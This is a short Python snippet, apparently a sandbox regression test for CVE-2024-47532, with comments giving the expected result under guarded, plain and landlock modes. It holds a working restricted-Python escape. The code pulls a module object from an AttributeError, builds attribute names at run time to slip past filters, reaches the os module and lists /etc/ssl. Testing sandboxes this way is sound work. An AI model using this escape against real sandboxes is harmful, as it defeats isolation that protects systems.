# CVE-2024-47532 with names put together at run time.
# guarded: error AttributeError: 
# plain: returns "ENOENT"
# landlock: returns "EACCES"
import string

try:
    string.nothing
except AttributeError as error:
    module = getattr(getattr(error, "o" + "bj"), "_" + "re")

attempt(module.enum.sys.modules["os"].listdir, "/etc/ssl")
